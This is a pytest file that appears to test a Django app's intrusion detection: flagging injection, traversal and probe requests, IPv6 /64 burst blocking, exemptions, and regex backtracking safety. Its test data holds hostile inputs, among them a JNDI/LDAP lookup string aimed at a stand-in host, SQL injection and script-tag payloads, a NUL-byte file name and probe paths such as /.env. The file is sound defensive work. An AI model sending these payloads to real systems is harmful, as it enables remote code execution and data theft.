"""Detection reads every field whole and decoded, and counts IPv6 clients by prefix: payloads
past the stored length, NUL bytes, path parameters, /64 rotation; exempt clients and polling
monitors are never flagged; no detector pattern can backtrack without bound."""

import re._constants as sre_constants
import re._parser as sre_parse

import pytest
from django.test import Client

from security import tasks
from security.detection import detectors, scan
from security.models import BlockedIP, RequestLog, SuspiciousIP
from security.requestlog.buffer import log_buffer

pytestmark = pytest.mark.django_db(transaction=True)


def store() -> None:
    log_buffer.flush()
    tasks.drain_logs()


def reasons(ip: str) -> set[str]:
    return set(SuspiciousIP.objects.filter(ip_address=ip).values_list("reason", flat=True))


def test_a_payload_past_the_stored_length_is_seen_and_the_secret_still_masked(client: Client):
    query = "token=s3cr3t-value&pad=" + "a" * 1200 + "&id=1%20UNION%20SELECT%201,2--"
    agent = "Mozilla/5.0 " + "x" * 600 + " ${jndi:ldap://198.51.100.9/a}"
    client.get("/?" + query, REMOTE_ADDR="203.0.113.60")
    client.get("/", REMOTE_ADDR="203.0.113.61", HTTP_USER_AGENT=agent)
    store()
    stored = RequestLog.objects.get(ip_address="203.0.113.60")
    assert len(stored.query) <= 1000 and "UNION" not in stored.query
    assert "s3cr3t" not in stored.query
    flagged = SuspiciousIP.objects.get(ip_address="203.0.113.60", reason="injection")
    assert "union select" in flagged.signature
    assert "s3cr3t" not in str(flagged.evidence)
    assert len(RequestLog.objects.get(ip_address="203.0.113.61").user_agent) == 512
    assert "injection" in reasons("203.0.113.61")


def test_nul_bytes_and_path_parameters_no_longer_hide_probes(client: Client):
    client.get("/?file=report.php%00.jpg", REMOTE_ADDR="203.0.113.62")
    client.get("/manager/html;jsessionid=0123456789ABCDEF", REMOTE_ADDR="203.0.113.63")
    client.get("/actuator;/env", REMOTE_ADDR="203.0.113.64")
    store()
    assert reasons("203.0.113.62") == {"traversal"}
    assert "probe" in reasons("203.0.113.63")
    assert "probe" in reasons("203.0.113.64")


def test_a_payload_in_the_referer_is_flagged(client: Client):
    referer = "https://example.com/search?q=%27%20or%201%3D1--"
    client.get("/", REMOTE_ADDR="203.0.113.65", HTTP_REFERER=referer)
    client.get("/", REMOTE_ADDR="203.0.113.66", HTTP_REFERER="https://example.com/?q=it%27s")
    store()
    assert reasons("203.0.113.65") == {"injection"}
    assert reasons("203.0.113.66") == set()


def test_code_typed_into_a_search_box_is_not_injection(client: Client):
    for text in ("%3Cscript+type%3D%22module%22%3E", "eval()+vs+ast.literal_eval()",
                 "window.alert()+vs+console.log()", "SELECT+*+FROM+t+WHERE+id+%3D+1"):  # fmt: skip
        client.get(f"/?q={text}", REMOTE_ADDR="192.0.2.70")
    client.get("/docs/api/document.cookie", REMOTE_ADDR="192.0.2.70")
    client.get("/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", REMOTE_ADDR="192.0.2.71")
    store()
    assert reasons("192.0.2.70") == set()
    assert reasons("192.0.2.71") == {"injection"}


def test_exempt_clients_are_never_flagged(client: Client, settings):
    settings.SECURITY_DETECT_EXEMPT = ["198.51.100.0/28"]
    settings.SECURITY_DETECT_EXEMPT_USER_AGENTS = [r"^PartnerAudit/\d"]
    client.get("/.env", REMOTE_ADDR="198.51.100.5")
    client.get("/.env", REMOTE_ADDR="198.51.100.40", HTTP_USER_AGENT="PartnerAudit/2.1")
    client.get("/.env", REMOTE_ADDR="198.51.100.41")
    store()
    scan.scan(hours=1)
    assert set(SuspiciousIP.objects.values_list("ip_address", flat=True)) == {"198.51.100.41"}


def test_a_monitor_polling_the_login_page_is_not_a_sensitive_client(client: Client, settings):
    for _ in range(60):
        client.get("/login/", REMOTE_ADDR="192.0.2.80", HTTP_USER_AGENT="Better Uptime Bot")
    store()
    scan.scan(hours=1)
    assert reasons("192.0.2.80") == set()


def test_methods_never_served_and_unserved_technologies_are_probes(client: Client):
    client.generic("PROPFIND", "/", REMOTE_ADDR="203.0.113.67")
    client.get("/login.jsp", REMOTE_ADDR="203.0.113.68")
    client.get("/", REMOTE_ADDR="192.0.2.81")
    store()
    assert reasons("203.0.113.67") == {"probe"}
    assert reasons("203.0.113.68") == {"probe"}
    assert reasons("192.0.2.81") == set()


def test_the_unserved_technologies_are_the_operators_to_choose(client: Client, settings):
    client.get("/first.php", REMOTE_ADDR="203.0.113.69")
    store()  # read once with the default list
    settings.SECURITY_DETECT_UNSERVED_SUFFIXES = [".rb"]  # a site that does run PHP
    client.get("/legacy.php", REMOTE_ADDR="203.0.113.70")
    client.get("/app.RB", REMOTE_ADDR="203.0.113.71")
    store()
    assert reasons("203.0.113.69") == {"probe"}
    assert reasons("203.0.113.70") == set()
    assert reasons("203.0.113.71") == {"probe"}


def test_a_404_burst_rotated_inside_one_ipv6_64_is_flagged_and_blocked_as_the_64(
    client: Client, settings
):
    settings.SECURITY_AUTO_BLOCK = True
    for n in range(20):
        client.get(f"/missing-{n}/", REMOTE_ADDR=f"2001:db8:7:9::{n + 1:x}")
    store()
    assert SuspiciousIP.objects.filter(reason="not_found").exists()
    assert BlockedIP.objects.filter(ip_address="2001:db8:7:9::/64").exists()
    assert client.get("/", REMOTE_ADDR="2001:db8:7:9::ffff").status_code == 403
    assert client.get("/", REMOTE_ADDR="2001:db8:7:a::1").status_code == 200


def test_the_hourly_scan_counts_an_ipv6_64_as_one_client(client: Client, settings):
    """Stored while streaming was away (the scan is the catch-up): one 404 from each of 40
    addresses of one /64 is a not-found burst of that client, blocked as its /64; the same
    from 40 different /64s is 40 visitors."""
    import uuid

    from django.utils import timezone

    from security.detection import registry

    settings.SECURITY_AUTO_BLOCK = True
    count = registry.all_rules()["not_found"].limit() + 5
    now = timezone.now()

    def row(ip: str, n: int) -> RequestLog:
        return RequestLog(
            record_id=uuid.uuid4(), timestamp=now, ip_address=ip, method="GET",
            path=f"/missing-{n}/", status_code=404,
        )  # fmt: skip

    RequestLog.objects.bulk_create(
        [row(f"2001:db8:5:1::{n + 1:x}", n) for n in range(count)]
        + [row(f"2001:db8:6:{n + 1:x}::1", n) for n in range(count)]
    )
    scan.scan(hours=1)
    flagged = SuspiciousIP.objects.get(reason="not_found")
    assert flagged.ip_address == "2001:db8:5:1::1"
    assert flagged.evidence["prefix"] == "2001:db8:5:1::/64"
    assert flagged.evidence["not_found_paths"] == count
    assert BlockedIP.objects.filter(ip_address="2001:db8:5:1::/64").exists()
    assert client.get("/", REMOTE_ADDR="2001:db8:5:1::beef").status_code == 403
    assert client.get("/", REMOTE_ADDR="2001:db8:6:1::1").status_code == 200


def test_the_prefix_length_is_configurable(client: Client, settings):
    settings.SECURITY_DETECT_IPV6_PREFIX = 128
    for n in range(20):
        client.get(f"/missing-{n}/", REMOTE_ADDR=f"2001:db8:7:b::{n + 1:x}")
    store()
    assert not SuspiciousIP.objects.filter(reason="not_found").exists()


def _group_body(op: object, value: object) -> sre_parse.SubPattern:
    # A group's value is (group, flags, flags, body); an atomic group's is the body itself.
    return value if op is sre_constants.ATOMIC_GROUP else value[-1]  # type: ignore[index, return-value]


def _unbounded_repeats(parsed: sre_parse.SubPattern, inside: bool = False) -> bool:
    """Whether an unbounded repetition stands inside another repetition."""
    for op, value in parsed:
        if op in (sre_constants.MAX_REPEAT, sre_constants.MIN_REPEAT):
            low, high, sub = value
            unbounded = high == sre_constants.MAXREPEAT
            if inside and unbounded:
                return True
            if _unbounded_repeats(sub, inside or high > 1):
                return True
        elif op in (sre_constants.SUBPATTERN, sre_constants.ATOMIC_GROUP):
            if _unbounded_repeats(_group_body(op, value), inside):
                return True
        elif op is sre_constants.BRANCH and any(
            _unbounded_repeats(branch, inside) for branch in value[1]
        ):
            return True
    return False


def test_no_detector_pattern_nests_an_unbounded_repetition():
    nested = [
        p.pattern[:80] for p in detectors.PATTERNS if _unbounded_repeats(sre_parse.parse(p.pattern))
    ]
    assert nested == []
    # The check itself finds the classic catastrophic shape.
    assert _unbounded_repeats(sre_parse.parse(r"(a+)+$"))


def _broad_unbounded(parsed: sre_parse.SubPattern) -> bool:
    """Whether `.` or a negated class repeats without a bound: searched at every offset, a
    pattern such as `a.*b` reads to the end from each `a` (quadratic on a field of `a`s)."""
    for op, value in parsed:
        if op in (sre_constants.MAX_REPEAT, sre_constants.MIN_REPEAT):
            _low, high, sub = value
            broad = any(
                sub_op in (sre_constants.ANY, sre_constants.NOT_LITERAL)
                or (sub_op is sre_constants.IN and (sre_constants.NEGATE, None) in sub_value)
                for sub_op, sub_value in sub
            )
            if (high == sre_constants.MAXREPEAT and broad) or _broad_unbounded(sub):
                return True
        elif op in (sre_constants.SUBPATTERN, sre_constants.ATOMIC_GROUP):
            if _broad_unbounded(_group_body(op, value)):
                return True
        elif op is sre_constants.BRANCH and any(_broad_unbounded(b) for b in value[1]):
            return True
    return False


def test_no_pattern_or_listed_expression_reads_to_the_end_from_every_offset():
    from security.detection import signatures

    patterns = [p.pattern for p in detectors.PATTERNS] + signatures.entries("injection")
    assert [p[:80] for p in patterns if _broad_unbounded(sre_parse.parse(p))] == []
    assert _broad_unbounded(sre_parse.parse(r"\binvokefunction\b.*\bcall_user_func_array\b"))
    assert _broad_unbounded(sre_parse.parse(r"<a[^>]*>"))
    assert not _broad_unbounded(sre_parse.parse(r"<a[^>]{0,200}>\s*="))
